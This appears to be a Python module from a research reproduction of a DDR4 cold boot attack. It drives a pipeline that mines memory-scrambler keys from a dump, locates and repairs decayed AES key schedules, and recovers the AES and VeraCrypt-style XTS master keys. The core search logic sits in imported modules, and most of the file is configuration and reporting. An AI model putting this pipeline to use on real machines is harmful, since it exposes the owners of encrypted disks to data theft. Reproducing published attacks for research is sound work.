"""The end-to-end DDR4 cold boot attack (§III-C, steps 1–4).

Given nothing but a scrambled memory dump, the pipeline:

1. mines candidate scrambler keys from zero-filled blocks using the
   scrambler-key litmus test (:mod:`repro.attack.keymine`);
2. descrambles individual 64-byte blocks with every candidate key,
   looking for blocks that pass the per-block AES key litmus test
   (:mod:`repro.attack.aes_search`);
3. extends each sighting across its neighbouring windows (every window
   of a schedule yields an independent reconstruction — the
   majority-vote generalisation of the paper's neighbour walk);
4. recovers the secret AES master key from the head of each voted
   schedule;
5. pairs adjacent XTS schedules into the volume's master key, after a
   targeted probe for the missing sibling of any unpaired schedule.

The attack model matches the paper's: no knowledge of which blocks
share a key, no knowledge of plaintext contents, dump possibly taken
through a second live scrambler, modest bit decay tolerated throughout.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field, replace
from functools import partial

from repro.attack.aes_search import RecoveredAesKey, ScheduleHit

# Step 1's miner, re-exported from the pipeline module.
from repro.attack.keymine import CandidateKey, mine_scrambler_keys  # noqa: F401
from repro.crypto.aes import schedule_bytes
from repro.dram.image import MemoryImage


@dataclass(frozen=True)
class AttackConfig:
    """Tunables for the §III-C attack pipeline."""

    key_bits: int = 256
    #: Litmus decay budget per mined key block.
    litmus_tolerance_bits: int = 16
    #: Hamming radius at which decayed key copies merge during mining.
    merge_radius_bits: int = 16
    #: Minimum sightings for a mined key to join the candidate set.
    min_key_count: int = 1
    #: Only the first this-many bytes are mined for keys (≤16 MB per §III-B).
    key_scan_limit_bytes: int | None = 16 * 1024 * 1024
    #: Hamming budget when verifying a predicted round key.
    verify_tolerance_bits: int = 16
    #: Cap on candidate keys fed to the search (highest frequency first);
    #: None means use all mined candidates.
    max_candidate_keys: int | None = None
    #: Run the decay-adaptive engine instead of the fixed budgets: the
    #: dump's decay rate is estimated, damaged regions are quarantined,
    #: and the Hamming budgets escalate stage by stage until schedules
    #: surface (see :mod:`repro.attack.adaptive`).
    adaptive: bool = False
    #: Work budget for the adaptive escalation ladder (strict costs 1,
    #: calibrated 2, widened 3, decoded 4).
    adaptive_total_work: int = 6
    #: Highest rung the adaptive ladder may climb (``"strict"``,
    #: ``"calibrated"``, ``"widened"``, ``"decoded"``; None lets the
    #: work budget decide).  Note the decoded stage's cost of 4 only
    #: fits when ``adaptive_total_work`` ≥ 10.
    adaptive_max_stage: str | None = None
    #: Cap on belief-propagation sweeps per decoded table.
    decode_iters: int = 72
    #: Thread shards for the decoded stage: candidate tables are split
    #: across this many decode workers
    #: (:func:`~repro.attack.decode_shard.decode_schedules_sharded`);
    #: per-table outputs stay byte-identical to the unsharded decode.
    decode_workers: int = 1
    #: Path for the decode-state sidecar
    #: (:class:`~repro.resilience.checkpoint.DecodeStateStore`): a
    #: deadline that expires mid-decode checkpoints the partial
    #: posteriors here, and a re-run with the same path warm-starts
    #: them and finishes byte-identically.
    decode_checkpoint: str | None = None
    #: Decay-rate prior the adaptive engine falls back on when the dump
    #: offers nothing measurable.
    prior_decay_rate: float = 0.002
    #: Wall-clock budget for a whole run in seconds (None = unbounded).
    #: Charge decay makes the attack window physical: when the budget
    #: expires, sharded runs stop resumable (completed shards
    #: journalled, the rest reported unscanned) and the adaptive ladder
    #: stops escalating.
    deadline_s: float | None = None
    #: Heartbeat stall timeout for multi-process sharded runs in
    #: seconds (None disables the watchdog).  A worker that publishes
    #: no progress beat for this long is killed and its shard
    #: resubmitted.
    stall_timeout_s: float | None = None
    #: Worker pool for sharded runs: ``"auto"`` (threads unless the run
    #: needs process isolation), ``"thread"``, or ``"process"`` — see
    #: :func:`repro.attack.parallel.resilient_recover_keys`.
    executor: str = "auto"


@dataclass
class AttackReport:
    """Everything the attack learned, plus bookkeeping for the write-up."""

    candidate_keys: list[CandidateKey] = field(default_factory=list)
    recovered_keys: list[RecoveredAesKey] = field(default_factory=list)
    hits: list[ScheduleHit] = field(default_factory=list)
    dump_bytes: int = 0
    mine_seconds: float = 0.0
    search_seconds: float = 0.0
    #: Shard-runner bookkeeping (a monolithic run is one shard; zero
    #: when nothing was scanned).
    n_shards: int = 0
    quarantined_shards: list[int] = field(default_factory=list)
    resumed_shards: int = 0
    degraded_to_serial: bool = False
    #: Deadline/watchdog bookkeeping.
    deadline_s: float | None = None
    deadline_expired: bool = False
    interrupted: bool = False
    #: Why the run ended early — "deadline" or a signal name (None when
    #: it ran to completion).
    expiry_cause: str | None = None
    #: Shard offsets left unscanned by an expiry/interrupt (resumable).
    unscanned_shards: list[int] = field(default_factory=list)
    #: Workers killed by the heartbeat watchdog for stalled beats.
    stall_kills: int = 0
    #: Degradation-chain bookkeeping: which backend published shared
    #: buffers, where the journal ended up, and whether journaling died.
    resource_backend: str = ""
    checkpoint_path: str | None = None
    checkpoint_error: str | None = None
    #: How shard jobs ran ("serial", "thread", or "process"; "" when
    #: nothing was scanned).
    executor: str = ""
    #: Adaptive-run bookkeeping (``None`` for fixed-budget runs): the
    #: :meth:`repro.attack.adaptive.AdaptiveRecovery.summary` digest —
    #: estimated decay rate and source, stages run, confidence floor,
    #: quarantined regions, diagnostics.
    adaptive: dict | None = None
    #: Regions the adaptive triage excluded from the scan, as
    #: structured dicts (offset, length, reason, detail).
    quarantined_regions: list[dict] = field(default_factory=list)

    @property
    def complete_scan(self) -> bool:
        """False when quarantine, a deadline expiry, or an interrupt
        left part of the dump unsearched."""
        return (
            not self.quarantined_shards
            and not self.quarantined_regions
            and not self.unscanned_shards
        )

    @property
    def resumable(self) -> bool:
        """True when the run stopped early but left a usable trail: a
        deadline/interrupt cut with shards still unscanned."""
        return bool(self.unscanned_shards) and (
            self.deadline_expired or self.interrupted
        )

    @property
    def min_confidence(self) -> float:
        """The weakest recovered key's posterior confidence (0 if none)."""
        return min((r.confidence for r in self.recovered_keys), default=0.0)

    @property
    def master_keys(self) -> list[bytes]:
        """Recovered AES master keys, in dump order."""
        return [r.master_key for r in self.recovered_keys]

    @property
    def scan_rate_mb_per_hour(self) -> float:
        """Search throughput in MB/hour — the paper's §III-C metric."""
        total = self.mine_seconds + self.search_seconds
        if total <= 0:
            return float("inf")
        return (self.dump_bytes / (1024 * 1024)) / (total / 3600.0)

    def summary(self) -> str:
        """One-paragraph human-readable result."""
        text = (
            f"dump={self.dump_bytes / 1048576:.1f}MiB "
            f"candidates={len(self.candidate_keys)} hits={len(self.hits)} "
            f"recovered={len(self.recovered_keys)} "
            f"(mine {self.mine_seconds:.2f}s + search {self.search_seconds:.2f}s, "
            f"{self.scan_rate_mb_per_hour:.0f} MB/h)"
        )
        if self.n_shards:
            text += f" shards={self.n_shards}"
            if self.resumed_shards:
                text += f" resumed={self.resumed_shards}"
            if self.quarantined_shards:
                text += f" QUARANTINED={len(self.quarantined_shards)}"
            if self.unscanned_shards:
                text += (
                    f" UNSCANNED={len(self.unscanned_shards)}"
                    f" ({self.expiry_cause or 'stopped'}, resumable)"
                )
            if self.stall_kills:
                text += f" stall_kills={self.stall_kills}"
        if self.adaptive is not None:
            text += (
                f" adaptive[rate={self.adaptive['estimated_decay_rate']:.4f} "
                f"({self.adaptive['decay_source']}) "
                f"stages={'+'.join(self.adaptive['stages_run']) or 'none'} "
                f"confidence≥{self.min_confidence:.2f}]"
            )
            if self.quarantined_regions:
                text += f" QUARANTINED_REGIONS={len(self.quarantined_regions)}"
        return text


def xts_master_key(recovered: list[RecoveredAesKey]) -> bytes | None:
    """Join an XTS primary/tweak schedule pair into the 64-byte master key.

    A mounted VeraCrypt-style XTS volume keeps two adjacent AES
    schedules in RAM — the primary immediately followed (one schedule
    length later) by the tweak.  The first base, in dump order, whose
    partner sits exactly one schedule length after it gives
    ``primary || tweak``; None when no pair was recovered.
    """
    by_base = {r.hits[0].table_base: r for r in recovered if r.hits}
    for base in sorted(by_base):
        primary = by_base[base]
        partner = by_base.get(base + schedule_bytes(primary.key_bits))
        if partner is not None and partner.key_bits == primary.key_bits:
            return primary.master_key + partner.master_key
    return None


class Ddr4ColdBootAttack:
    """Orchestrates mining and searching over one scrambled dump."""

    def __init__(self, config: AttackConfig | None = None) -> None:
        self.config = config or AttackConfig()

    def run(
        self,
        dump: MemoryImage,
        reference: MemoryImage | None = None,
        deadline=None,
        **shard_options,
    ) -> AttackReport:
        """Execute steps 1–5 on a scrambled memory image.

        One driver for every caller: the fixed budgets are a one-rung
        ladder and ``config.adaptive`` climbs the decay-adaptive one
        (:mod:`repro.attack.adaptive`); either way every rung mines,
        scans its shards through
        :func:`repro.attack.parallel.resilient_recover_keys`, merges,
        and rescues unpaired XTS siblings (see
        :meth:`~repro.attack.adaptive.AdaptiveRecoveryEngine.climb`).

        ``shard_options`` are ``resilient_recover_keys``'s (``workers``,
        ``n_shards``, ``retry_policy``, ``checkpoint``, ``resume``,
        ``fault_plan``, ``on_event``, ``stop``, ``resource_policy``,
        ``checkpoint_fallback_dir``): one shard scans each extent whole,
        crashed and hung shards are retried and exhausted ones
        quarantined.  ``checkpoint`` journals a fixed-budget run's
        shards; the adaptive ladder journals none, its resume record is
        ``config.decode_checkpoint``.  ``deadline`` (seconds or a
        :class:`~repro.resilience.deadline.Deadline`; defaults to
        ``config.deadline_s``) bounds the run resumably, and
        ``config.stall_timeout_s`` arms the heartbeat watchdog for
        multi-process scans.  ``reference`` (a pre-decay image) upgrades
        the adaptive decay estimate to a direct measurement.
        """
        from repro.attack.adaptive import STRICT_STAGE, AdaptiveRecoveryEngine
        from repro.attack.parallel import resilient_recover_keys
        from repro.resilience.deadline import Deadline
        from repro.resilience.watchdog import WatchdogConfig

        config = self.config
        deadline = Deadline.coerce(config.deadline_s if deadline is None else deadline)
        store = None
        if config.decode_checkpoint is not None:
            from repro.resilience.checkpoint import DecodeStateStore

            store = DecodeStateStore(config.decode_checkpoint)
        engine = AdaptiveRecoveryEngine(
            key_bits=config.key_bits,
            total_work=config.adaptive_total_work,
            prior_rate=config.prior_decay_rate,
            max_candidate_keys=config.max_candidate_keys,
            scan_limit_bytes=config.key_scan_limit_bytes,
            max_stage=config.adaptive_max_stage,
            decode_iters=config.decode_iters,
            decode_workers=config.decode_workers,
            decode_state_store=store,
        )
        if config.adaptive:
            shard_options.pop("checkpoint", None)
        if config.stall_timeout_s is not None:
            shard_options["watchdog"] = WatchdogConfig(stall_timeout_s=config.stall_timeout_s)
        scan = partial(
            resilient_recover_keys, dump, key_bits=config.key_bits, deadline=deadline,
            executor=config.executor, **shard_options,
        )
        start = time.perf_counter()
        if config.adaptive:
            result = engine.recover(dump, reference=reference, deadline=deadline, scan=scan)
        else:
            fixed = replace(
                STRICT_STAGE,
                litmus_tolerance_bits=config.litmus_tolerance_bits,
                merge_radius_bits=config.merge_radius_bits,
                verify_tolerance_bits=config.verify_tolerance_bits,
                min_key_count=config.min_key_count,
            )
            result = engine.climb(dump, [fixed], scan=scan, deadline=deadline)
        report = AttackReport(dump_bytes=len(dump), deadline_s=config.deadline_s)
        report.candidate_keys = result.candidates
        report.recovered_keys = result.recovered
        report.hits = [hit for rec in result.recovered for hit in rec.hits]
        report.mine_seconds = result.mine_seconds
        report.search_seconds = time.perf_counter() - start - result.mine_seconds
        if config.adaptive:
            report.adaptive = result.summary()
            report.quarantined_regions = [error.to_dict() for error in result.quarantined]
        scan_report = result.scan
        if scan_report is not None:
            ledger = scan_report.ledger
            report.n_shards = scan_report.n_shards
            report.quarantined_shards = scan_report.quarantined_offsets
            report.resumed_shards = scan_report.resumed_shards
            report.degraded_to_serial = ledger.degraded_to_serial
            report.deadline_s = scan_report.deadline_seconds
            report.deadline_expired = scan_report.deadline_expired
            report.interrupted = scan_report.interrupted
            report.expiry_cause = scan_report.expiry_cause
            report.unscanned_shards = scan_report.unscanned_offsets
            report.stall_kills = ledger.stall_kills
            report.resource_backend = scan_report.resource_backend
            report.checkpoint_path = scan_report.checkpoint_path
            report.checkpoint_error = scan_report.checkpoint_error
            report.executor = scan_report.executor
        if result.decode is not None and result.decode["interrupted"]:
            # A deadline cut a decode mid-sweep; the partial posteriors
            # (if a sidecar is wired) are the run's resume record.
            report.deadline_expired = True
            report.expiry_cause = "deadline"
            report.checkpoint_path = config.decode_checkpoint
        return report

    #: The sharded spelling of :meth:`run`, kept for existing callers.
    run_sharded = run

    def recover_xts_master_key(self, dump: MemoryImage) -> bytes | None:
        """Recover a VeraCrypt-style 64-byte XTS master key, if present.

        :meth:`run` (which already rescues a sibling schedule too
        decayed for the open scan) followed by :func:`xts_master_key`.
        """
        return xts_master_key(self.run(dump).recovered_keys)
